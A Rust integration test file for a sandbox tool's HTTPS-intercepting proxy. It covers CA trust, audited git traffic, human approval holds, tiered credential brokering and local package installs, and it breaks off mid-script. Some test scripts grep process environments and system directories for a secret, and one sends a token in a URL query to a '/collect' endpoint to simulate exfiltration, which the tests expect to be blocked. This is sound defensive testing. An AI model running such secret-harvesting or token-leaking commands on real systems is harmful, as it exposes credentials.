//! HTTPS interception inside the real sandbox: a loopback HTTPS server (its certificate from a
//! test CA the governance file names in `[network] upstream_ca`, git smart HTTP through the
//! real `git http-backend`) reached by curl, Python and git running in `warden sandbox` /
//! `warden run`, which trust the run's CA only through the mounted bundle; the requests are
//! recorded with method, path, service and handling. Also: pip and npm installing from a package
//! index on that server; a script's POST held for a person by a real `warden serve` and released
//! or refused; a credential's `tier` checked end to end (refused at granted `auto`, carried once
//! approved at `async` and run by the worker); a placeholder sent to another host refused and
//! recorded as an exfiltration attempt.

#![cfg(target_os = "linux")]

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};

#[allow(dead_code, reason = "shared support; this file uses part of it")]
#[path = "support/serve.rs"]
mod serve;

const WARDEN: &str = env!("CARGO_BIN_EXE_warden");
const ADMIN: &str = "wdn_test_admin_token_net_0123456789";
const SYSTEM_BUNDLE: &str = "/etc/ssl/certs/ca-certificates.crt";

struct Env {
    root: tempfile::TempDir,
    ws: PathBuf,
    port: u16,
    server: Child,
}

impl Drop for Env {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

fn run(cmd: &mut Command) -> Output {
    let o = cmd.output().expect("runs");
    assert!(
        o.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    o
}

fn git(dir: &Path, args: &[&str]) {
    run(Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "t")
        .env("GIT_AUTHOR_EMAIL", "t@example.invalid")
        .env("GIT_COMMITTER_NAME", "t")
        .env("GIT_COMMITTER_EMAIL", "t@example.invalid"));
}

/// A test CA and a leaf for 127.0.0.1 (openssl), a bare repository, and the HTTPS server.
fn setup() -> Option<Env> {
    if Command::new("openssl").arg("version").output().is_err() {
        eprintln!("skipped: no openssl to make the test certificates");
        return None;
    }
    let root = tempfile::Builder::new()
        .prefix("net-intercept-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .expect("tempdir");
    let r = root.path();
    let ws = r.join("ws");
    std::fs::create_dir_all(ws.join(".git")).expect("mkdir");
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
    ];
    run(Command::new("openssl")
        .current_dir(r)
        .args(["req", "-x509"])
        .args(ec)
        .args([
            "-keyout",
            "ca.key",
            "-out",
            "ca.pem",
            "-days",
            "2",
            "-subj",
            "/CN=upstream test CA",
        ]));
    run(Command::new("openssl")
        .current_dir(r)
        .args(["req"])
        .args(ec)
        .args([
            "-keyout",
            "leaf.key",
            "-out",
            "leaf.csr",
            "-subj",
            "/CN=127.0.0.1",
        ]));
    std::fs::write(r.join("ext"), "subjectAltName=IP:127.0.0.1,DNS:localhost\n").expect("write");
    run(Command::new("openssl").current_dir(r).args([
        "x509",
        "-req",
        "-in",
        "leaf.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-out",
        "leaf.pem",
        "-days",
        "2",
        "-extfile",
        "ext",
    ]));

    let src = r.join("src");
    std::fs::create_dir_all(&src).expect("mkdir");
    git(&src, &["init", "-q", "-b", "main"]);
    std::fs::write(src.join("README"), "cloned over intercepted TLS\n").expect("write");
    git(&src, &["add", "README"]);
    git(&src, &["commit", "-q", "-m", "first"]);
    let srv = r.join("srv");
    std::fs::create_dir_all(srv.join("repos")).expect("mkdir");
    git(r, &["clone", "-q", "--bare", "src", "srv/repos/repo.git"]);

    let mut server = Command::new("python3")
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/tls_git_server.py"
        ))
        .arg(&srv)
        .arg(r.join("leaf.pem"))
        .arg(r.join("leaf.key"))
        .stdout(Stdio::piped())
        .spawn()
        .expect("python3");
    let mut line = String::new();
    BufReader::new(server.stdout.take().expect("stdout"))
        .read_line(&mut line)
        .expect("port");
    let port = line.trim().parse().expect("port number");
    Some(Env {
        root,
        ws,
        port,
        server,
    })
}

impl Env {
    /// A governance file allowing the server; `trust_upstream` names the test CA.
    fn policy(&self, trust_upstream: bool) -> PathBuf {
        self.policy_with(trust_upstream, "")
    }

    fn policy_with(&self, trust_upstream: bool, more: &str) -> PathBuf {
        let p = self.root.path().join("policy.toml");
        let ca = if trust_upstream {
            format!(
                "upstream_ca = [\"{}\"]\n",
                self.root.path().join("ca.pem").display()
            )
        } else {
            String::new()
        };
        std::fs::write(
            &p,
            format!(
                "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
                 allow = [\"127.0.0.1:{port}\", \"localhost:{port}\"]\nallow_private = [\"127.0.0.1\", \"localhost\"]\n{ca}{more}",
                port = self.port
            ),
        )
        .expect("write");
        p
    }

    /// `warden SUB --policy POLICY -- sh script.sh` with `script` (and the sandbox's NO_PROXY,
    /// which names 127.0.0.1, emptied) in a file the classifier does not read.
    fn warden(&self, sub: &str, policy: &Path, script: &str) -> Output {
        self.warden_env(sub, policy, script, &[])
    }

    fn warden_env(&self, sub: &str, policy: &Path, script: &str, env: &[(&str, &str)]) -> Output {
        self.command(sub, policy, script, env)
            .output()
            .expect("warden")
    }

    /// The command [`Env::warden_env`] runs, to spawn it instead.
    fn command(&self, sub: &str, policy: &Path, script: &str, env: &[(&str, &str)]) -> Command {
        self.command_in("script.sh", sub, policy, script, env)
    }

    /// `warden SUB --policy POLICY -- sh FILE` with `script` written to FILE.
    fn command_in(
        &self,
        file: &str,
        sub: &str,
        policy: &Path,
        script: &str,
        env: &[(&str, &str)],
    ) -> Command {
        std::fs::write(
            self.ws.join(file),
            format!("export NO_PROXY= no_proxy=\n{script}\n"),
        )
        .expect("write");
        let mut c = Command::new(WARDEN);
        c.args([sub, "--policy"])
            .arg(policy)
            .args(["--", "sh", file])
            .current_dir(&self.ws)
            .env("HOME", self.root.path())
            .env_remove("WARDEN_ORG_POLICY")
            .env_remove("SSL_CERT_FILE")
            .env_remove("WARDEN_SERVER")
            .env_remove("WARDEN_TOKEN")
            .envs(env.iter().copied())
            .stdin(Stdio::null());
        c
    }

    fn url(&self, path: &str) -> String {
        format!("https://127.0.0.1:{}{path}", self.port)
    }

    fn requests(&self) -> String {
        std::fs::read_to_string(self.root.path().join("srv/requests.log")).unwrap_or_default()
    }
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

#[test]
fn clients_inside_the_sandbox_trust_the_run_ca_and_reach_an_https_upstream() {
    let Some(e) = setup() else { return };
    let p = e.policy(true);
    let hello = e.url("/hello");
    let script = format!(
        "echo \"$SSL_CERT_FILE $GIT_SSL_CAINFO $NODE_EXTRA_CA_CERTS\"; \
         curl -sS {hello}; \
         curl -sS --cacert {SYSTEM_BUNDLE} {hello}; \
         python3 -c 'import sys,urllib.request as u; sys.stdout.write(u.urlopen(sys.argv[1]).read().decode())' {hello}; \
         grep -c 'BEGIN CERTIFICATE' {SYSTEM_BUNDLE}"
    );
    let o = e.warden("sandbox", &p, &script);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(
        lines[0],
        "/run/warden-ca.pem /run/warden-ca.pem /run/warden-ca.pem"
    );
    assert_eq!(&lines[1..4], ["hello over intercepted TLS"; 3], "{out}");
    // Inside, the standard bundle holds exactly one certificate more than the host's: the run's
    // CA, trusted there and nowhere else.
    let host_count = std::fs::read_to_string(SYSTEM_BUNDLE)
        .expect("system bundle")
        .matches("BEGIN CERTIFICATE")
        .count();
    assert_eq!(lines[4], (host_count + 1).to_string());
    // Outside the sandbox the run's CA is not trusted: the host bundle is unchanged, and the
    // upstream's own certificate is what a direct client sees.
    assert!(
        !std::fs::read_to_string(SYSTEM_BUNDLE)
            .expect("bundle")
            .contains("Warden")
    );
}

#[test]
fn an_upstream_the_proxy_cannot_verify_is_refused_inside_with_the_reason() {
    let Some(e) = setup() else { return };
    let p = e.policy(false);
    let o = e.warden("sandbox", &p, &format!("curl -sS {}", e.url("/hello")));
    let (out, err) = text(&o);
    assert!(out.contains("failed TLS verification"), "{out}{err}");
    assert!(!out.contains("hello over"), "{out}");
    assert_eq!(e.requests(), "", "nothing reached the upstream");
}

#[test]
fn git_clone_and_push_over_intercepted_https_are_recorded_as_requests() {
    let Some(e) = setup() else { return };
    // The push runs inside an `auto` action (`sh script.sh`): the runtime layers would refuse it
    // (exec and request, tier async above the granted auto; see runtime_exec.rs). This workspace
    // declares pushes to its loopback test forge `auto`, so the push runs and its intercepted
    // requests are what this test checks.
    let p = e.policy_with(
        true,
        "[[rule]]\nid = \"test.push-to-test-forge\"\ntier = \"auto\"\ncategory = \"vcs-publish\"\n\
         reason = \"pushes to the loopback test forge\"\noverride = true\nprogram = [\"git\"]\n\
         subcommand = [\"push\"]\n\
         [[rule]]\nid = \"test.push-to-test-forge-http\"\ntier = \"auto\"\ncategory = \"vcs-publish\"\n\
         reason = \"pushes to the loopback test forge\"\noverride = true\nservice = [\"git-receive-pack\"]\n",
    );
    let repo = e.url("/git/repo.git");
    let script = format!(
        "git clone -q {repo} c && cat c/README && cd c && echo more > more.txt && git add more.txt && \
         git -c user.name=t -c user.email=t@example.invalid commit -qm second && git push -q origin HEAD:main"
    );
    let o = e.warden("run", &p, &script);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    assert_eq!(out, "cloned over intercepted TLS\n");
    // The push arrived at the server.
    let log = Command::new("git")
        .args(["log", "--format=%s", "main"])
        .current_dir(e.root.path().join("srv/repos/repo.git"))
        .output()
        .expect("git log");
    assert_eq!(String::from_utf8_lossy(&log.stdout), "second\nfirst\n");
    let requests = e.requests();
    assert!(
        requests.contains("POST /git/repo.git/git-receive-pack"),
        "{requests}"
    );

    // The audit log holds each request with its method, path, service and handling.
    let audit = std::fs::read_to_string(e.ws.join(".warden/audit/audit.jsonl")).expect("audit log");
    let network: Vec<serde_json::Value> = audit
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["kind"] == "network")
        .collect();
    let has = |method: &str, service: &str| {
        network.iter().any(|r| {
            let b = &r["body"];
            let b = if b.is_null() { r } else { b };
            b["method"] == method
                && b["service"] == service
                && b["handling"] == "intercepted"
                && b["path"]
                    .as_str()
                    .is_some_and(|p| p.starts_with("/git/repo.git/"))
        })
    };
    assert!(has("POST", "git-upload-pack"), "{network:#?}");
    assert!(has("POST", "git-receive-pack"), "{network:#?}");
    assert!(has("GET", "git-receive-pack"), "{network:#?}");

    // `warden report` counts the requests by host and method.
    let o = Command::new(WARDEN)
        .args(["report", "--json"])
        .current_dir(&e.ws)
        .env("HOME", e.root.path())
        .output()
        .expect("warden report");
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let report: serde_json::Value = serde_json::from_str(&out).expect("json");
    let host = report["network"]
        .as_array()
        .and_then(|hosts| hosts.iter().find(|h| h["host"] == "127.0.0.1"))
        .expect("the server's host")
        .clone();
    assert!(
        host["methods"]["POST"]["allowed"].as_u64() >= Some(2),
        "{host}"
    );
    assert!(
        host["methods"]["GET"]["allowed"].as_u64() >= Some(2),
        "{host}"
    );
    assert_eq!(
        host["methods"]["tunnel"]["allowed"].as_u64(),
        Some(2),
        "{host}"
    );
}

#[test]
fn a_brokered_credential_reaches_its_host_and_never_the_sandbox() {
    let Some(e) = setup() else { return };
    const SECRET: &str = "ghp_brokeredsecretbrokeredsecret012345";
    let p = e.policy_with(
        true,
        &format!(
            "[[network.credential]]\nid = \"forge\"\nhosts = [\"127.0.0.1:{}\"]\nenv = \"GH_TOKEN\"\n",
            e.port
        ),
    );
    let script = format!(
        "echo \"$GH_TOKEN\"; \
         cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c brokeredsecret; \
         grep -rl brokeredsecret /run /tmp /etc 2>/dev/null | wc -l; \
         curl -sS -H \"Authorization: Bearer $GH_TOKEN\" {}",
        e.url("/api")
    );
    let o = e.warden_env("sandbox", &p, &script, &[("GH_TOKEN", SECRET)]);
    let (out, err) = text(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines.len() >= 4, "{out}{err}");
    assert!(
        lines[0].starts_with("ghp_") && lines[0].len() == SECRET.len(),
        "{out}"
    );
    assert_ne!(lines[0], SECRET);
    assert_eq!(
        lines[1], "0",
        "the secret is in no environment inside: {out}"
    );
    assert_eq!(lines[2], "0", "nor in a file inside: {out}");
    assert_eq!(lines[3], "GET ", "{out}{err}");
    let requests = e.requests();
    assert!(
        requests.contains(&format!("auth=Bearer {SECRET}")),
        "the server got the real secret: {requests}"
    );
}

/// A rule making a POST to the loopback server `sync`, routed to the `ops` group of a real
/// `warden serve` (which reads the same file) with the route's `timeout`.
fn sync_post(timeout: &str) -> String {
    format!(
        "[[rule]]\nid = \"test.post-needs-a-person\"\ntier = \"sync\"\n\
         category = \"external-write\"\nreason = \"writes to the loopback service\"\noverride = true\n\
         host = [\"127.0.0.1\"]\nmethod = [\"POST\"]\n\
         [approvals.groups.ops]\nmembers = []\n\
         [[approvals.route]]\ncategory = [\"external-write\"]\ngroups = [\"ops\"]\ntimeout = \"{timeout}\"\n"
    )
}

/// A real `warden serve` for [`sync_post`]'s policy, with an agent and an approver (alice, ops).
struct HoldServer {
    policy: PathBuf,
    serve: serve::Running,
    agent: String,
    alice: String,
}

impl HoldServer {
    fn start(e: &Env, timeout: &str) -> HoldServer {
        let policy = e.policy_with(true, &sync_post(timeout));
        let ApprovalServer {
            server: serve,
            agent,
            alice,
        } = ApprovalServer::start(e, &policy);
        HoldServer {
            policy,
            serve,
            agent,
            alice,
        }
    }

    /// `warden run` of a script POSTing `body` to the server, spawned, and the id of the
    /// request it is held for. The POST is in a curl config file, which the exec layer's
    /// classifier does not read (`curl -K post.cfg` is `auto`): only the proxy sees the method.
    fn hold(&self, e: &Env, body: &str) -> (Child, String) {
        let script = format!(
            "printf 'url = \"{}\"\\ndata = \"{body}\"\\nsilent\\nshow-error\\n' > post.cfg\n\
             curl -K post.cfg; echo; echo posted",
            e.url("/echo")
        );
        let env = [
            ("WARDEN_SERVER", self.serve.url.as_str()),
            ("WARDEN_TOKEN", self.agent.as_str()),
        ];
        let child = e
            .command("run", &self.policy, &script, &env)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("warden run");
        let t0 = std::time::Instant::now();
        let id = loop {
            if let Some(id) = pending(&self.serve.url, &self.alice).into_iter().next() {
                break id;
            }
            if t0.elapsed() > std::time::Duration::from_secs(30) {
                let o = finish(child, std::time::Duration::ZERO);
                let (out, err) = text(&o);
                panic!("no pending request: {out}{err}");
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        };
        (child, id)
    }

    /// `warden approvals VERB ID …` as alice.
    fn answer(&self, args: &[&str]) {
        let o = serve::approvals_cli(&self.serve.url, &self.alice, args)
            .output()
            .expect("warden approvals");
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    }
}

/// The server's pending request ids, as `approver` sees them.
fn pending(url: &str, approver: &str) -> Vec<String> {
    let o = serve::approvals_cli(url, approver, &["--json", "list"])
        .output()
        .expect("warden approvals list");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    v.as_array()
        .expect("list")
        .iter()
        .filter_map(|r| r["id"].as_str().map(str::to_owned))
        .collect()
}

/// Waits for `child` to exit (killed after `limit`); its status and output.
fn finish(mut child: Child, limit: std::time::Duration) -> Output {
    let t0 = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if t0.elapsed() > limit {
            let _ = child.kill();
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    child.wait_with_output().expect("output")
}

/// A POST from a script (`sh script.sh` is `auto`, so only the proxy sees it) to an allowed
/// host that the governance file puts at `sync`: the request waits inside the proxy while a
/// person is asked through a real `warden serve`; approved, it is forwarded and its body
/// arrives; denied, the client gets 403 with the reason and nothing reaches the server. Both
/// holds are `nested` records of layer `net`, answered by the approver.
#[test]
fn a_script_post_is_held_for_a_person_then_released_or_refused() {
    let Some(e) = setup() else { return };
    let h = HoldServer::start(&e, "60s");

    let (mut child, id) = h.hold(&e, "released-body-1");
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        child.try_wait().expect("wait").is_none(),
        "the request waits for the person"
    );
    assert!(
        !e.requests().contains("POST"),
        "nothing forwarded while held"
    );
    h.answer(&["approve", &id]);
    let o = finish(child, std::time::Duration::from_secs(60));
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{out}{err}");
    assert_eq!(out, "POST released-body-1\nposted\n", "{err}");
    assert!(e.requests().contains("POST /echo"), "{}", e.requests());

    let (child, id) = h.hold(&e, "denied-body-2");
    h.answer(&["deny", &id, "--comment", "not today"]);
    let o = finish(child, std::time::Duration::from_secs(60));
    let (out, err) = text(&o);
    assert!(
        out.contains("warden: refused"),
        "the 403's reason: {out}{err}"
    );
    assert!(!out.contains("denied-body-2"), "{out}");
    assert_eq!(
        e.requests().matches("POST /echo").count(),
        1,
        "the denied POST never reached the server: {}",
        e.requests()
    );

    let held: Vec<serde_json::Value> = records(&e, "nested")
        .into_iter()
        .filter(|b| b["layer"] == "net" && b["tier"] == "sync")
        .collect();
    let answers: Vec<&str> = held.iter().filter_map(|b| b["answer"].as_str()).collect();
    assert_eq!(answers, ["hold", "proceed", "hold", "deny"], "{held:#?}");
    assert_eq!(held[1]["by"], "alice", "{held:#?}");
    assert_eq!(held[1]["action"]["method"], "POST", "{held:#?}");

    // `warden report`: each held request is an incident saying how the hold ended, in the JSON,
    // the text and the HTML page (which also counts the nested decisions).
    let report = |args: &[&str]| {
        let o = Command::new(WARDEN)
            .arg("report")
            .args(args)
            .current_dir(&e.ws)
            .env("HOME", e.root.path())
            .output()
            .expect("warden report");
        let (out, err) = text(&o);
        assert!(o.status.success(), "{err}");
        out
    };
    let r: serde_json::Value = serde_json::from_str(&report(&["--json"])).expect("json");
    assert_eq!(r["incident_counts"]["nested-held"], 2, "{r:#}");
    let details: Vec<&str> = r["incidents"]
        .as_array()
        .expect("incidents")
        .iter()
        .filter(|i| {
            i["kinds"]
                .as_array()
                .is_some_and(|k| k.iter().any(|k| k == "nested-held"))
        })
        .filter_map(|i| i["detail"].as_str())
        .collect();
    let post = format!(
        "POST 127.0.0.1:{}/echo (rule test.post-needs-a-person)",
        e.port
    );
    assert!(
        details
            .iter()
            .any(|d| d.contains(&format!("held for a person: {post}: approved by alice"))),
        "{details:#?}"
    );
    assert!(
        details
            .iter()
            .any(|d| d.contains(&format!("held for a person: {post}: denied by alice"))),
        "{details:#?}"
    );
    assert!(
        report(&[]).contains("nested-held 2"),
        "the text report's incident counts"
    );
    let page = e.root.path().join("report.html");
    report(&["--html", page.to_str().expect("utf8")]);
    let html = std::fs::read_to_string(&page).expect("page");
    assert!(html.contains("<h2>Inside actions</h2>"), "{html}");
    assert!(html.contains("<td>POST</td>"), "{html}");
}

/// The audit log's records of `kind`, each as its body.
fn records(e: &Env, kind: &str) -> Vec<serde_json::Value> {
    std::fs::read_to_string(e.ws.join(".warden/audit/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["kind"] == kind)
        .map(|r| {
            if r["body"].is_null() {
                r
            } else {
                r["body"].clone()
            }
        })
        .collect()
}

/// The workspace's own governance file (the worker reads the policy from the workspace): the
/// loopback server allowed and trusted, `more` (say, a credential), and `sh SCRIPT` classified
/// `async` in category `deploy`, routed to group `ops`.
fn workspace_policy_async_script(e: &Env, script: &str, more: &str) -> PathBuf {
    let dir = e.ws.join(".warden");
    std::fs::create_dir_all(&dir).expect("mkdir");
    let p = dir.join("policy.toml");
    std::fs::write(
        &p,
        format!(
            "[network]\ndiscover_registries = false\ndiscover_git_remotes = false\nforges = false\n\
             allow = [\"127.0.0.1:{port}\"]\nallow_private = [\"127.0.0.1\"]\nupstream_ca = [\"{ca}\"]\n\
             {more}\
             [[rule]]\nid = \"test.script\"\ntier = \"async\"\ncategory = \"deploy\"\n\
             reason = \"runs a script through the loopback forge\"\noverride = true\nprogram = [\"sh\"]\n\
             arg_regex = \"^{script}$\"\n\
             [approvals.groups.ops]\nmembers = []\n\
             [[approvals.route]]\ncategory = [\"deploy\"]\ngroups = [\"ops\"]\ntimeout = \"60s\"\n",
            port = e.port,
            ca = e.root.path().join("ca.pem").display(),
            script = script.replace('.', "[.]"),
        ),
    )
    .expect("policy");
    p
}

/// A real `warden serve` judging with `policy`, with an agent token and an approver `alice` of
/// group `ops`.
struct ApprovalServer {
    server: serve::Running,
    agent: String,
    alice: String,
}

impl ApprovalServer {
    fn start(e: &Env, policy: &Path) -> ApprovalServer {
        let server = serve::serve(
            e.root.path(),
            ADMIN,
            [
                "--listen",
                "127.0.0.1:0",
                "--policy",
                policy.to_str().expect("utf8"),
                "--db",
                "sqlite:approvals.db",
            ],
        );
        let agent = serve::create_token(&server.url, ADMIN, "agent", "bot", "");
        let alice = serve::create_token(&server.url, ADMIN, "approver", "alice", "ops");
        ApprovalServer {
            server,
            agent,
            alice,
        }
    }

    /// `warden run` of `script` (in `file`, with `env` and the agent's token) is deferred for
    /// approval (exit 75), and alice approves it; returns the request's id.
    fn file_and_approve(
        &self,
        e: &Env,
        file: &str,
        policy: &Path,
        script: &str,
        env: &[(&str, &str)],
    ) -> String {
        let url = self.server.url.as_str();
        let mut with_server = vec![
            ("WARDEN_SERVER", url),
            ("WARDEN_TOKEN", self.agent.as_str()),
        ];
        with_server.extend_from_slice(env);
        let o = e
            .command_in(file, "run", policy, script, &with_server)
            .output()
            .expect("warden run");
        let (out, err) = text(&o);
        assert_eq!(o.status.code(), Some(75), "deferred: {out}{err}");
        let ids = pending(url, &self.alice);
        assert_eq!(ids.len(), 1, "{ids:?} {err}");
        let o = serve::approvals_cli(url, &self.alice, &["approve", &ids[0]])
            .output()
            .expect("warden approvals approve");
        assert!(o.status.success(), "approve: {o:?}");
        ids[0].clone()
    }

    /// `warden approvals worker --once` in the workspace with `env`: runs what was approved.
    fn worker_once(&self, e: &Env, env: &[(&str, &str)]) -> Output {
        serve::approvals_cli(&self.server.url, &self.agent, &["worker", "--once"])
            .current_dir(&e.ws)
            .env("HOME", e.root.path())
            .envs(env.iter().copied())
            .env_remove("SSL_CERT_FILE")
            .env_remove("WARDEN_ORG_POLICY")
            .output()
            .expect("warden approvals worker")
    }
}

/// A credential's `tier` is checked end to end: a token that may only travel at `async` is not
/// carried by a request of an action running at granted tier `auto` (the request is refused,
/// the server never sees the secret, nor the placeholder); once a person approved the action at
/// `async` through a real `warden serve` and the worker runs it, the same request carries the
/// real secret to the server.
#[test]
fn a_credential_with_a_tier_travels_only_in_an_action_approved_at_that_tier() {
    let Some(e) = setup() else { return };
    const SECRET: &str = "ghp_tieredsecrettieredsecret0123456789";
    let p = workspace_policy_async_script(
        &e,
        "release.sh",
        &format!(
            "[[network.credential]]\nid = \"forge\"\nhosts = [\"127.0.0.1:{port}\"]\n\
             env = \"GH_TOKEN\"\ntier = \"async\"\n",
            port = e.port
        ),
    );
    let call = format!(
        "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" {}; echo",
        e.url("/api")
    );
    let secret_env = [("GH_TOKEN", SECRET)];

    // Granted auto: refused at the proxy, neither the secret nor the placeholder arrives.
    let o = e
        .command_in("probe.sh", "run", &p, &call, &secret_env)
        .output()
        .expect("warden run");
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(75), "{out}{err}");
    assert!(out.contains("warden: refused"), "{out}{err}");
    assert_eq!(e.requests(), "", "nothing reached the server");
    let nested = records(&e, "nested");
    let refused = nested
        .iter()
        .find(|n| n["layer"] == "net")
        .unwrap_or_else(|| panic!("no net decision: {nested:#?}"));
    assert_eq!(refused["tier"], "async", "{refused:#}");
    assert_eq!(refused["granted"], "auto", "{refused:#}");
    assert_eq!(refused["answer"], "refuse", "{refused:#}");

    // Approved at async, run by the worker: the request carries the real secret.
    let a = ApprovalServer::start(&e, &p);
    let _ = a.file_and_approve(&e, "release.sh", &p, &call, &[("GH_TOKEN", SECRET)]);
    assert_eq!(e.requests(), "", "nothing sent before the worker runs it");
    let o = a.worker_once(&e, &[("GH_TOKEN", SECRET)]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "worker: {:?}\n{out}{err}", o.status);
    let requests = e.requests();
    assert_eq!(
        requests,
        format!("GET /api auth=Bearer {SECRET}\n"),
        "the approved action's request carried the real secret"
    );
}

/// The async worker runs an approved action whose client hangs up in the middle of a response
/// (`curl … | head -c 1`): the proxy in the worker's process then writes into a closed
/// connection. Before the fix the worker, like every `warden approvals` subcommand, had
/// SIGPIPE's default action restored (so that `warden approvals list | head` ends quietly) and
/// was killed by the signal, leaving the approved action without an outcome; `warden run`, which
/// keeps SIGPIPE ignored, never was. (Seen as a flaky `worker --once` killed by signal 13 in
/// the test above, when the client's close raced the proxy's TLS close_notify.)
#[test]
fn the_worker_survives_a_client_that_hangs_up_mid_response() {
    let Some(e) = setup() else { return };
    let p = workspace_policy_async_script(&e, "fetch.sh", "");
    let call = format!(
        "for i in 1 2 3; do curl -sS {} | head -c 1; echo; done; echo fetched",
        e.url("/big")
    );
    let a = ApprovalServer::start(&e, &p);
    let id = a.file_and_approve(&e, "fetch.sh", &p, &call, &[]);
    let o = a.worker_once(&e, &[]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "worker: {:?}\n{out}{err}", o.status);
    let status = serve::approvals_cli(&a.server.url, &a.alice, &["--json", "status", &id])
        .output()
        .expect("status");
    let status = String::from_utf8_lossy(&status.stdout);
    assert!(
        status.contains("\"ran\":true"),
        "the approved action ran to the end: {status}"
    );
    assert_eq!(e.requests().matches("GET /big").count(), 3, "three fetches");
}

/// A placeholder sent to a host its credential is not for is refused (403, the reason in the
/// body), never reaches that host, and is recorded as an exfiltration attempt: a network record
/// of the request (method, path without its query) refused by rule `credential-exfiltration`,
/// shown by `warden report` as an incident.
#[test]
fn a_placeholder_sent_to_another_host_is_refused_and_recorded_as_exfiltration() {
    let Some(e) = setup() else { return };
    const SECRET: &str = "ghp_exfilsecretexfilsecret012345678901";
    let p = e.policy_with(
        true,
        "[[network.credential]]\nid = \"forge\"\nhosts = [\"forge.example.invalid\"]\nenv = \"GH_TOKEN\"\n",
    );
    let script = format!(
        "curl -sS -H \"Authorization: Bearer $GH_TOKEN\" \"{}?t=$GH_TOKEN\"; echo",
        e.url("/collect")
    );
    let o = e.warden_env("run", &p, &script, &[("GH_TOKEN", SECRET)]);
    let (out, err) = text(&o);
    // The 403's body, as curl printed it: why, in one line.
    assert!(
        out.contains("recorded as an exfiltration attempt (rule `credential-exfiltration`)"),
        "{out}{err}"
    );
    assert_eq!(e.requests(), "", "the other host saw nothing");
    let net = records(&e, "network");
    let attempt = net
        .iter()
        .find(|n| n["rule"] == "credential-exfiltration")
        .unwrap_or_else(|| panic!("no exfiltration record: {net:#?}"));
    assert_eq!(attempt["allowed"], false, "{attempt:#}");
    assert_eq!(attempt["host"], "127.0.0.1", "{attempt:#}");
    assert_eq!(attempt["method"], "GET", "{attempt:#}");
    assert_eq!(attempt["path"], "/collect", "query stripped: {attempt:#}");
    assert_eq!(attempt["handling"], "intercepted", "{attempt:#}");
    let log = std::fs::read_to_string(e.ws.join(".warden/audit/audit.jsonl")).expect("log");
    assert!(!log.contains(SECRET), "the secret is in the log");
    assert!(!log.contains("exfilsecret"), "nor any part of it");

    let o = Command::new(WARDEN)
        .args(["report", "--json"])
        .current_dir(&e.ws)
        .env("HOME", e.root.path())
        .output()
        .expect("warden report");
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    let report: serde_json::Value = serde_json::from_str(&out).expect("json");
    assert_eq!(report["incident_counts"]["network-denied"], 1, "{report:#}");
    let host = report["network"]
        .as_array()
        .and_then(|h| h.iter().find(|h| h["host"] == "127.0.0.1"))
        .expect("host");
    assert_eq!(host["methods"]["GET"]["denied"], 1, "{host}");
}

/// Package managers inside `warden run`, offline against the loopback package index over
/// intercepted HTTPS: pip installs a wheel from a PyPI "simple" index and npm a tarball from a
/// registry's packument, both trusting the run's CA through what Warden sets inside (the
/// mounted bundle and its variables), and the installed modules import.
#[test]
fn pip_and_npm_install_from_a_local_index_over_intercepted_https() {
    let Some(e) = setup() else { return };
    for tool in ["npm", "node"] {
        if Command::new(tool).arg("--version").output().is_err() {
            eprintln!("skipped: no {tool}");
            return;
        }
    }
    // The interpreter itself: a version manager's shim (pyenv) would rehash, writing outside
    // the workspace, which the exec layer rightly refuses.
    let python = String::from_utf8(
        run(Command::new("python3").args(["-c", "import sys; print(sys.executable)"])).stdout,
    )
    .expect("utf8")
    .trim()
    .to_owned();
    let p = e.policy(true);
    let base = e.url("");
    // Like NO_PROXY in every script here, npm's own no-proxy list (127.0.0.1, set inside) is
    // emptied: the loopback server stands for a remote index, reached through the proxy. npm's
    // registry is named `localhost`: through a proxy, npm's agent checks an IP literal's
    // certificate against the name `localhost` (https-proxy-agent drops the IP as TLS server name).
    let npm_base = format!("https://localhost:{}", e.port);
    let script = format!(
        "{python} -m pip install -q --no-cache-dir --disable-pip-version-check --no-deps \
           --target site --index-url {base}/simple/ tinypkg && \
         PYTHONPATH=site {python} -c 'import tinypkg; print(tinypkg.HELLO)' && \
         mkdir -p js && cd js && \
         {{ npm_config_noproxy= npm_config_cache=$PWD/.npm npm install --silent --no-audit --no-fund --no-update-notifier \
